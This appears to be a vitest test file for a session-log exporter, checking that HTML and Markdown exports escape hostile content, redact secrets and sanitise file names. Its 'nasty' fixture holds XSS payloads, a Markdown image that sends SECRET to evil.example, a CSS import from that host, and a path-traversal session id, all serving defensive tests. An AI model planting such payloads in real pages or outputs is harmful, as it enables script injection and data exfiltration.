import { describe, expect, test } from "vitest";
import {
  exportAllSessions,
  exportAllSessionsToJson,
  exportSession,
  exportSessionLines,
  exportSessionToHtml,
  exportSessionToJson,
  exportSessionToMarkdown,
} from "../src/index.ts";
import { parsePage } from "./html-page.ts";
import { conversation, createDataDirectory, jsonLines, sessionId, type DataDirectory } from "./data-directory.ts";

const nasty = [
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "</pre></details><script>alert(1)</script>",
  '"><iframe srcdoc="<script>alert(1)</script>">',
  "![x](https://evil.example/?q=SECRET)",
  "<style>@import 'https://evil.example'</style>",
  "````\n</details>",
].join("\n");

function hostile(): DataDirectory {
  const data = createDataDirectory();
  const talk = conversation();
  data.session(sessionId(1), [
    talk.user(nasty),
    talk.answer([
      { type: "thinking", thinking: nasty },
      { type: "text", text: nasty },
      { type: "tool_use", id: "t", name: nasty, input: { command: nasty, [nasty]: 1 } },
      { type: "novel", html: nasty },
    ]),
    talk.user([{ type: "tool_result", tool_use_id: "t", content: `${nasty}\u001b[2J\u202e` }]),
    { type: "custom-title", customTitle: nasty },
  ]);
  return data;
}

describe("HTML", () => {
  test("exported HTML is one file that has no scripts, loads nothing, and escapes the session's text", async () => {
    const html = await exportSessionToHtml(0, hostile().config);
    expect(html).toContain("default-src 'none'");
    const tags = new Set([...html.matchAll(/<([a-z!/][a-z0-9]*)/gi)].map(([, name]) => name?.toLowerCase()));
    for (const tag of ["script", "img", "svg", "iframe", "link", "object", "base", "form"])
      expect(tags.has(tag)).toBe(false);
    expect([...html.matchAll(/<style>/g)].length).toBe(1);
    expect(html).not.toMatch(/<[a-z]+[^>]*\son[a-z]+=/i);
    expect(html).not.toMatch(/(src|srcset)="|href="(?!#)/);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(html).toContain("\\u001b[2J\\u202e");
  });

  test("exported HTML shows Markdown, code, colours, commands, edits, images, an outline, tokens and cost", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    const edit = { file_path: "/work/app/a.ts", old_string: "one\ntwo", new_string: "one\n2" };
    const usage = { input_tokens: 1000, output_tokens: 2000, cache_read_input_tokens: 3000 };
    data.session(sessionId(1), [
      talk.user("<command-name>/model</command-name>\n<command-args>opus</command-args>"),
      talk.user("fix the **parser**"),
      talk.answer(
        [
          {
            type: "text",
            text: "# Plan\n\n- [x] `read`\n- write\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```",
          },
          { type: "tool_use", id: "t1", name: "Bash", input: { command: "npm test", description: "Run the tests" } },
          { type: "tool_use", id: "t2", name: "Edit", input: edit },
        ],
        { message: { usage, model: "claude-opus-4-5-20251101" } },
      ),
      talk.user([
        { type: "tool_result", tool_use_id: "t1", content: "\u001b[31;1mfailed\u001b[0m 3 \u001b[38;5;46mok\u001b[0m" },
      ]),
      talk.user([{ type: "tool_result", tool_use_id: "t2", content: "The file was updated.", is_error: false }]),
      talk.user([
        { type: "text", text: "look: https://example.org/a?b=1&c=2." },
        { type: "image", source: { type: "base64", media_type: "image/png", data: "iVBORw0KGgo=" } },
        { type: "image", source: { type: "base64", media_type: "image/svg+xml", data: "PHN2Zz4=" } },
      ]),
    ]);
    const html = await exportSessionToHtml(0, data.config);
    const { elements, text } = parsePage(html);
    for (const part of [
      '<p class="command"><code>/model opus</code></p>',
      "<p>fix the <strong>parser</strong></p>",
      "<h4>Plan</h4>",
      "<li>☑ <code>read</code></li>",
      '<th class="right">b</th>',
      '<span class="k">const</span> x',
      '<span class="f1 bold">failed</span> 3 <span class="f10">ok</span>',
      '<span class="del">- two</span>\n<span class="ins">+ 2</span>',
      '<img src="data:image/png;base64,iVBORw0KGgo="',
      '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">',
      "<dd>$0.06</dd>",
      "<dd>4,000 in (3,000 from the cache), 2,000 out</dd>",
      "Sun 1 Nov 2026, 10:00 to 10:00 UTC (5 s)",
      '<time datetime="2026-11-01T10:00:01.000Z">10:00</time>',
    ])
      expect(html).toContain(part);
    expect(text).toContain("An image that cannot be shown (image/svg+xml)");
    // A result is shown only once, with its call.
    expect(text.split("failed 3 ok").length).toBe(2);
    const targets = elements.flatMap(({ attributes }) => attributes["id"] ?? []);
    const links = elements.filter(({ name, path }) => name === "a" && path.includes("nav"));
    expect(links.map((link) => link.text)).toEqual(["fix the **parser**", "look: https://example.org/a?b=1&c=2."]);
    for (const { attributes } of links) expect(targets).toContain(attributes["href"]?.slice(1));
  });

  test("a line without a time has no date and no time on the page", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    const { timestamp: _time, ...untimed } = talk.user("a prompt without a time");
    data.session(sessionId(1), [
      { type: "summary", summary: "A title", leafUuid: "x" },
      talk.user("a prompt"),
      untimed,
      talk.answer("an answer"),
    ]);
    const html = await exportSessionToHtml(0, data.config);
    expect(html).toMatch(/<h3>Summary <\/h3>[^]+<p class="day">Sun 1 Nov 2026<\/p>[^]+a prompt</);
    expect(html.match(/<p class="day">/g)).toHaveLength(1);
    expect(html.match(/<h3>You <time/g)).toHaveLength(1);
    expect(html.match(/<h3>You <\/h3>/g)).toHaveLength(1);
    expect(html.match(/<time datetime="2026-11-01T10:00:0/g)).toHaveLength(html.match(/<time /g)?.length ?? 0);
  });

  test.each([
    ["unclosed emphasis", "**a ".repeat(20_000)],
    ["unclosed code", "`a ``b ".repeat(20_000)],
    ["nested lists", Array.from({ length: 3000 }, (_, at) => `${" ".repeat(at % 40)}- x`).join("\n")],
    ["nested quotes", ">".repeat(20_000)],
    ["unclosed comments", `\`\`\`ts\n${"/*".repeat(24_000)}\n\`\`\``],
    ["unclosed links", "[a](http://".repeat(10_000)],
    ["unclosed tags", "<command-name>".repeat(10_000)],
  ])("exporting HTML takes less than five seconds for a long text with %s", async (_, text) => {
    const data = createDataDirectory();
    const talk = conversation();
    data.session(sessionId(1), [talk.user(text), talk.answer(text)]);
    const started = process.cpuUsage();
    parsePage(await exportSessionToHtml(0, data.config));
    expect(process.cpuUsage(started).user).toBeLessThan(5_000_000);
  });
});

describe("Markdown", () => {
  test("exported Markdown has a heading per message, and folds tools and thinking", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    data.session(sessionId(1), [
      talk.user("question"),
      talk.answer([
        { type: "thinking", thinking: "hm" },
        { type: "text", text: "**answer**" },
      ]),
    ]);
    const markdown = await exportSessionToMarkdown(0, data.config);
    expect(markdown).toContain("## 👤 User\n\nquestion");
    expect(markdown).toContain("## 🤖 Assistant (claude-opus-5)");
    expect(markdown).toContain("<summary>Thinking</summary>");
    expect(markdown).toContain("**answer**");
  });

  test("exported Markdown escapes raw HTML and images, and text cannot close the fence around it", async () => {
    const markdown = await exportSessionToMarkdown(0, hostile().config);
    const outside = markdown.replaceAll(/^(`{3,})[a-z]*\n[\s\S]*?^\1$/gm, "");
    expect(outside).not.toMatch(/<(img|svg|script|iframe|style)/i);
    expect(outside).not.toContain("![x]");
    expect([...outside.matchAll(/<details>/g)].length).toBe([...outside.matchAll(/<\/details>/g)].length);
  });
});

describe("JSON", () => {
  test("exported JSON has every line with all fields", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    const lines = [talk.user("q"), talk.answer("a"), { type: "from-the-future", x: [1] }];
    data.session(sessionId(1), lines);
    const parsed = JSON.parse(await exportSessionToJson(0, data.config)) as { messages: { raw: unknown }[] };
    expect(parsed.messages.map(({ raw }) => raw)).toEqual(lines);
  });

  test("exported JSON has all lines of one answer, and the text of damaged lines", async () => {
    const data = createDataDirectory();
    const talk = conversation();
    const message = { id: "msg_one" };
    const lines = [
      talk.user("q"),
      talk.answer([{ type: "thinking", thinking: "", signature: "first" }], { message }),
      talk.answer([{ type: "text", text: "a" }], { message, caller: "direct" }),
      talk.answer([{ type: "tool_use", id: "t", name: "Bash", input: {}, caller: { type: "direct" } }], { message }),
    ];
    data.write(`projects/-work-app/${sessionId(1)}.jsonl`, `${jsonLines(lines)}not {json at all\n`);
    const parsed = JSON.parse(await exportSessionToJson(0, data.config)) as {
      messages: { raw: unknown; lineNumber: number; moreLines?: { lineNumber: number; raw: unknown }[] }[];
      damage: { line: number; text: string }[];
    };
    const found = parsed.messages.flatMap(({ raw, lineNumber, moreLines = [] }) => [{ lineNumber, raw }, ...moreLines]);
    expect(found).toEqual(lines.map((raw, at) => ({ lineNumber: at + 1, raw })));
    expect(parsed.damage).toMatchObject([{ line: 5, text: "not {json at all" }]);
  });

  test("exported JSON of all sessions is one array", async () => {
    const data = createDataDirectory();
    for (let i = 1; i <= 3; i += 1)
      data.session(sessionId(i), [conversation(`2026-11-0${i}T10:00:00.000Z`).user(`p${i}`)]);
    const parsed = JSON.parse(await exportAllSessionsToJson(data.config)) as { summary: string }[];
    expect(parsed.map(({ summary }) => summary)).toEqual(["p3", "p2", "p1"]);
  });
});

describe("lines", () => {
  const bytes = Buffer.concat([
    Buffer.from(jsonLines([conversation().user("q")])),
    Buffer.from([0x7b, 0xff, 0xfe, 0x0a]),
    Buffer.from('{"type":"user","n":1.0,"n":2e3}'),
  ]);

  test("exported lines are the unchanged bytes of the file, followed by the lines of subagents", async () => {
    const data = createDataDirectory();
    data.write(`projects/-work-app/${sessionId(1)}.jsonl`, bytes);
    const agent = jsonLines([conversation(undefined, { isSidechain: true }).user("subtask")]);
    data.write(`projects/-work-app/${sessionId(1)}/subagents/agent-a1.jsonl`, agent);
    expect(Buffer.compare(await exportSessionLines(0, data.config), bytes)).toBe(0);
    for await (const exported of exportAllSessions("jsonl", data.config)) {
      expect(exported.fileName).toBe(`${sessionId(1)}.jsonl`);
      expect(Buffer.compare(exported.bytes ?? Buffer.alloc(0), bytes)).toBe(0);
    }
    const both = Buffer.concat([bytes, Buffer.from(`\n${agent}`)]);
    expect(Buffer.compare(await exportSessionLines(0, { ...data.config, includeAgents: true }), both)).toBe(0);
  });
});

test("exported HTML has the first prompt as title if the session has none, and shows the subject of a tool call", async () => {
  const data = createDataDirectory();
  const talk = conversation();
  const id = sessionId(1);
  data.session(id, [
    talk.user("Plan the move"),
    talk.answer([{ type: "tool_use", id: "t1", name: "TaskUpdate", input: { taskId: "3", status: "completed" } }]),
    talk.user("Now pack"),
    { type: "last-prompt", lastPrompt: "Now pack" },
  ]);
  const html = await exportSessionToHtml(id, data.config);
  expect(html).toContain("<title>Plan the move</title>");
  expect(html).toContain('<span class="subject">taskId 3, status completed</span>');
  const long = sessionId(2);
  data.session(long, [conversation().user(`Plan the move ${"of all the boxes ".repeat(20)}`)]);
  expect(await exportSessionToHtml(long, data.config)).toMatch(
    /<title>Plan the move (of all the boxes ){6}of…<\/title>/,
  );
});

test("lines of unknown types and damaged lines are shown in Markdown and HTML", async () => {
  const data = createDataDirectory();
  const lines = jsonLines([conversation().user("q"), { type: "from-the-future", note: "novelty" }]);
  data.write(`projects/-work-app/${sessionId(1)}.jsonl`, `${lines}half a {record\n`);
  for (const format of ["markdown", "html"] as const) {
    const text = await exportSession(0, format, data.config);
    for (const part of ["from-the-future", "novelty", "half a {record"]) expect(text).toContain(part);
  }
});

test("the option redact changes every text of an export", async () => {
  const data = createDataDirectory();
  const talk = conversation();
  data.session(sessionId(1), [
    talk.user("my key is sk-123"),
    talk.answer([{ type: "tool_use", id: "t", name: "Bash", input: { command: "echo sk-123" } }]),
  ]);
  data.append(`projects/-work-app/${sessionId(1)}.jsonl`, "a damaged line with sk-123\n");
  for (const format of ["json", "jsonl", "markdown", "html"] as const) {
    const text = await exportSession(0, format, {
      ...data.config,
      redact: (part) => part.replaceAll("sk-123", "[secret]"),
    });
    expect(text).not.toContain("sk-123");
    expect(text).toContain("[secret]");
  }
});

test("exported files have safe names for any session id, and an option includes subagents", async () => {
  const data = createDataDirectory();
  data.session("CON", [conversation("2026-11-01T10:00:00.000Z").user("x")]);
  data.session("..%2fevil", [conversation("2026-11-02T10:00:00.000Z").user("y")]);
  data.write(
    `projects/-work-app/CON/subagents/agent-a1.jsonl`,
    jsonLines([conversation(undefined, { isSidechain: true }).user("subtask")]),
  );
  const names: string[] = [];
  const contents: string[] = [];
  for await (const { fileName, content } of exportAllSessions("markdown", { ...data.config, includeAgents: true })) {
    names.push(fileName);
    contents.push(content);
  }
  expect(names).toEqual(["___2fevil.md", "session_CON.md"]);
  expect(contents.join("\n")).toContain("subtask");
});
